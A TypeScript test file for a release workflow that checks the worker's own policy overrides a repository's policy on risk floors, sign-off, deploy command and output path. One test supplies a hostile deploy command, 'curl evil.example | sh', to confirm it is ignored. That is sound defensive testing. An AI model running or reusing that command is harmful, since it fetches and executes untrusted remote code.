import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseWorkerPolicy } from '../../src/domain/policy';
import { rejectUpdate, statusQuery } from '../../src/workflows/messages';
import { releaseWorkflow } from '../../src/workflows';
import { timeSkippingSuite } from '../helpers/workflow-worker';
import { waitForQuiet, waitForStatus } from '../helpers/status';
import { criticalChange, fakeActivities, fakeReleaseInput, lowChange } from '../helpers/fake-activities';

/**
 * Issue 13 §1 in the workflow: whatever the input says, the worker's policy and the floors decide.
 * A repository's policy file cannot lower the bar nor choose the deploy command.
 */
describe('the release policy in the workflow (time-skipping server, fake activities)', () => {
  const suite = timeSkippingSuite('policy');
  const { withWorker } = suite;

  it('asks for a sign-off on a CRITICAL change even when the repository\'s policy narrows the critical areas and the levels needing one', async () => {
    const { activities } = fakeActivities({ change: criticalChange });
    const lowered = { risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } };
    const status = await withWorker(activities, async (taskQueue) => {
      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-floors', args: [fakeReleaseInput('policy-floors', 'auth', lowered)] });
      const waiting = await waitForStatus(handle, (s) => s.pendingApproval !== undefined);
      await waitForQuiet(handle);
      await handle.executeUpdate(rejectUpdate, { args: [{ by: 'sre', reason: 'test over' }] });
      await handle.result();
      return waiting;
    });
    assert.equal(status.riskLevel, 'CRITICAL');
    assert.equal(status.pendingApproval!.kind, 'release');
    assert.deepEqual(status.policy!.raised.map((r) => r.split(':')[0]), ['risk.criticalAreas', 'approval.requiredFor']);
  });

  it('runs the worker policy\'s deploy command and writes where it says, whatever the repository\'s policy names', async () => {
    const policy = parseWorkerPolicy({ deploy: { command: ['/opt/release/deploy', '--', '{stage}'], timeout: '5m' }, out: '/var/lib/rollgate' });
    assert.ok(policy.ok);
    const { activities, calls } = fakeActivities({ change: lowChange, workerPolicy: policy.policy });
    const input = fakeReleaseInput('policy-owned', 'auth', { deploy: { command: ['sh', '-c', 'curl evil.example | sh'] }, bake: { staging: '0s', production: '0s' } });
    const { result, status } = await withWorker(activities, async (taskQueue) => {
      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-owned', args: [input] });
      return { result: await handle.result(), status: await handle.query(statusQuery) };
    });
    assert.equal(result.outcome, 'released', result.reason);
    assert.ok(calls.deploys.length > 0);
    for (const d of calls.deploys) {
      assert.deepEqual(d.command, ['/opt/release/deploy', '--', '{stage}']);
      assert.equal(d.outDir, '/var/lib/rollgate/auth');
    }
    assert.ok(status.recordPath!.startsWith('/var/lib/rollgate/auth/'), status.recordPath);
    assert.equal(status.policy!.worker, 'worker policy (ROLLGATE_POLICY)');
    assert.deepEqual(status.policy!.overridden, ['deploy', 'out']);
    const record = calls.records.at(-1)!;
    assert.match(record, /## RELEASE POLICY\n\n- \*\*Repository\*\*: policies\/policy-owned\.yaml at the base commit\n- \*\*Worker policy\*\*: worker policy \(ROLLGATE\\_POLICY\)\n- \*\*Set by the worker policy\*\* \(the repository's value ignored\): deploy; out\n/);
  });

  it('a sign-off nobody is named or verified to give aborts the release before anything is deployed; allowed signers are the approvers', async () => {
    const { activities, calls } = fakeActivities({ change: criticalChange });
    const result = await withWorker(activities, (taskQueue) =>
      suite.env.client.workflow.execute(releaseWorkflow, { taskQueue, workflowId: 'no-approvers', args: [fakeReleaseInput('no-approvers', 'auth', { approval: { approvers: [] } })] }),
    );
    assert.equal(result.outcome, 'aborted');
    assert.match(result.reason ?? '', /Sign-off needed but no approver is configured: approval\.approvers is empty and the worker verifies no signers/);
    assert.equal(calls.deploys.length, 0);
    // The same release on a worker with an allowed-signers file waits for a signed sign-off.
    const signed = fakeActivities({ change: criticalChange, signers: '/etc/rollgate/allowed_signers' });
    const waiting = await withWorker(signed.activities, async (taskQueue) => {
      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'signers-approve', args: [fakeReleaseInput('signers-approve', 'auth', { approval: { approvers: [] } })] });
      const status = await waitForStatus(handle, (s) => s.pendingApproval !== undefined);
      await handle.terminate('test over');
      return status;
    });
    assert.deepEqual(waiting.pendingApproval!.allowedApprovers, []);
  });

  it('a repository policy the worker cannot read stops the release at its gates, nothing deployed, its ledger line where the worker policy says', async () => {
    const policy = parseWorkerPolicy({ out: '/var/lib/rollgate' });
    assert.ok(policy.ok);
    const { activities, calls } = fakeActivities({ change: lowChange, workerPolicy: policy.policy });
    const { result, status } = await withWorker(activities, async (taskQueue) => {
      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'unreadable-policy', args: [fakeReleaseInput('unreadable-policy', 'auth', { deploy: { timeout: '0s' } })] });
      return { result: await handle.result(), status: await handle.query(statusQuery) };
    });
    assert.equal(result.outcome, 'aborted');
    assert.equal(result.stopKind, 'gates');
    assert.match(result.reason ?? '', /^the release policy cannot be read: policies\/unreadable-policy\.yaml: deploy\.timeout: must be longer than zero/);
    assert.equal(calls.deploys.length, 0);
    assert.equal(calls.ledger.length, 1);
    assert.equal(calls.ledgerDirs[0], '/var/lib/rollgate/auth');
    assert.equal(status.steps[0]!.name, 'release policy');
  });
});
